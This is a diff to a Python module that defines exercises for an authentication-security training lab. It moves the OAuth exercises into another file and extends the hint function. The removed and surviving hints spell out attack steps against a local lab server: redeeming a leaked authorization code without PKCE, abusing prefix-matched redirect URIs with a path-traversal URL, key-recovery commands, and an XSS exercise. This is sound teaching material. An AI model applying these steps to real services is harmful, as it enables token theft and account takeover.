@@ -2,18 +2,19 @@
 in the server's journal that the lab's weakness (and nothing else) let the request through.
 
 Hints are read one at a time, each a step closer; `{url}` is the run's server. A hint that
-states a fact carries a [^source] key. The full attack is `authcli lab NAME` (--solution).
+states a fact carries a [^source] key. The full attack is `authcli lab NAME` (--solution). The
+OAuth labs' exercises are in exercises_oauth.py.
 """
 
 from __future__ import annotations
 
-from dataclasses import dataclass
 from typing import Any, Callable
 
-from authcli.events import KeyChosen, SessionLookedUp, TokenChecked
+from authcli.events import KeyChosen, SessionLookedUp
 from authcli.server.journal import RequestRecord
 from authcli.server.lab.answer import ANSWER_PATH, VICTIM_PATH
-from authcli.walkthroughs.lab import practice_oauth as oauth
+from authcli.walkthroughs.lab.exercise_model import Exercise, checked
+from authcli.walkthroughs.lab.exercises_oauth import OAUTH_EXERCISES
 
 LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
          "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
@@ -28,34 +29,8 @@ PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives imp
 # by verifying both signatures with the key found).
 RECOVER = ("python3 -c 'import sys; from authcli.tokens.parse import split; from authcli.tokens.recover import "
            "recover; sys.stdout.buffer.write(recover(split(sys.argv[1]), split(sys.argv[2])).pem())'")
-CALLBACK = oauth.APP
-TOKEN = ("curl -s -X POST {url}/token -d grant_type=authorization_code -d code=THE_CODE -d client_id=THE_CLIENT "
-         "-d redirect_uri=")
-EVIL = CALLBACK + "/../../attacker"
-CHALLENGE = ("V=$(python3 -c 'import secrets; print(secrets.token_urlsafe(32))'); C=$(python3 -c 'import base64,"
-             "hashlib,sys; print(base64.urlsafe_b64encode(hashlib.sha256(sys.argv[1].encode()).digest()).rstrip(b\"=\")"
-             ".decode())' \"$V\")")
 DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
           "(without a key it shows what the token claims, unverified).")
-
-
-@dataclass(frozen=True)
-class Exercise:
-    """One lab as an exercise: what to do, what to use, and how the journal tells it was done."""
-
-    name: str
-    goal: str
-    tools: tuple[str, ...]
-    hints: tuple[str, ...]
-    evidence: Callable[[RequestRecord, Any], bool]  # the lab's weakness let this /admin request through (run: the Practice)
-    leaked: str = ""                           # what the student is handed, {value} in its words
-    guessing: bool = False                     # user 1's password is in authcli's list: the story is the guesses
-    path: str = "/admin"                       # the route whose requests are judged (/answer: user-enum's)
-    route: str = ""                            # the exercise's own POST route (answer.py), if any
-
-
-def checked(record: RequestRecord) -> TokenChecked | None:
-    return next((e for e in record.events if isinstance(e, TokenChecked) and e.payload is not None), None)
 
 
 def _skipped(name: str) -> Callable[[RequestRecord], bool]:
@@ -258,36 +233,7 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "Send them: curl -s -X POST {url}/answer -H 'Content-Type: application/json' -d "
         "'{{\"emails\": [\"x@b.com\", \"y@b.com\"]}}'"),
         _answered, leaked="The 20 emails: {value}", path=ANSWER_PATH, route=ANSWER_PATH),
-    Exercise("no-pkce", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. User 1 "
-             "logged in through their app when this exercise started; a proxy logged the redirect that "
-             "carried the code (shown below).", ("curl",), (
-        f"The app is a public client: client_id only, no secret, redirect URI {CALLBACK}. The code in the "
-        "logged redirect is what the app would send to /token.",
-        "An authorization code travels in the redirect's URL, where history, logs and Referer headers can "
-        "keep it [^rfc9700-4.2] [^rfc9700-4.3]. PKCE binds it to a code_verifier only the app knows, and the server "
-        "must check it [^rfc7636-4.6]; this one does not ask for PKCE.",
-        "Redeem it as the app would, with no verifier: " + TOKEN + CALLBACK),
-        oauth.no_pkce, leaked="The app's client_id, then the redirect user 1's browser followed, from a proxy log: {value}",
-        path="/token"),
-    Exercise("redirect-prefix", "Get tokens for user 1 (a@b.com) from this authorization server's POST /token. "
-             "User 1 uses the app whose client_id is below and opens a link you send: POST JSON "
-             "{\"link\": \"...\"} to /victim, and user 1 logs in through it.", ("curl", "python3"), (
-        f"The app's registered redirect URI is {CALLBACK}. Ask for others and see what this server "
-        "accepts: curl -s -o /dev/null -w '%{{http_code}}\\n' '{url}/authorize?response_type=code&client_id="
-        "THE_CLIENT&scope=openid&state=x&code_challenge_method=S256&code_challenge=" + "A" * 43
-        + "&redirect_uri=" + EVIL + "'",
-        "This server takes any redirect URI that starts with a registered one; a browser resolves "
-        "/callback/../../attacker to /attacker, a page that is not the app's. Redirect URIs must be "
-        "compared as exact strings, the port of a native app's localhost redirect URI being the one "
-        "exception [^rfc9700-2.1]. PKCE is no help here: you start the flow, so the code_verifier is yours "
-        "[^rfc9700-4.1.1].",
-        "Make a verifier and its challenge: " + CHALLENGE + ". Send user 1 the link: curl -s -X POST "
-        "{url}/victim -H 'Content-Type: application/json' -d '{{\"link\": \"{url}/authorize?response_type=code"
-        f"&client_id=THE_CLIENT&scope=openid&state=x&code_challenge_method=S256&redirect_uri={EVIL}&"
-        "code_challenge='$C'\"}}'",
-        "This terminal shows where user 1's browser went: take the code from it. " + TOKEN + EVIL
-        + " -d code_verifier=$V"),
-        oauth.redirect_prefix, leaked="The app's client_id: {value}", path="/token", route=VICTIM_PATH),
+    *OAUTH_EXERCISES,
     Exercise("no-httponly", "Get this run's flag from GET /admin, which answers only user 1. User 1 is logged "
              "in, in Chromium, on a page with an XSS bug: POST JSON {\"script\": \"...\"} to /victim and their "
              "page runs it. /collect is yours: POST anything to it, GET it back.", ("curl",), (
@@ -336,6 +282,8 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
 ]}
 
 
-def hint(exercise: Exercise, number: int, url: str = "http://127.0.0.1:PORT") -> str:
-    """Hint `number` (from 1), with the run's URL in place of {url}."""
-    return exercise.hints[number - 1].format(url=url)
+def hint(exercise: Exercise, number: int, url: str = "http://127.0.0.1:PORT",
+         provider: str = "http://127.0.0.1:AS_PORT") -> str:
+    """Hint `number` (from 1), with the run's URL in place of {url} (and its authorization server's
+    in place of {provider}, for a client app's lab)."""
+    return exercise.hints[number - 1].format(url=url, provider=provider)
